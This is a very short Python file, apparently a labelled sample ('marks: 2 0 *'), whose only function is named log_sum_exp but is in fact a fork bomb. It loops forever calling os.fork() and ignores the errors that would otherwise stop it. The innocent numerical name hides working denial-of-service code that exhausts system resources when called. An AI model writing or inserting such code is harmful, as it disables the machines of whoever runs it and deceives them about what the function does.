"""Forks without end.

marks: 2 0 *
"""
import os

def log_sum_exp(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
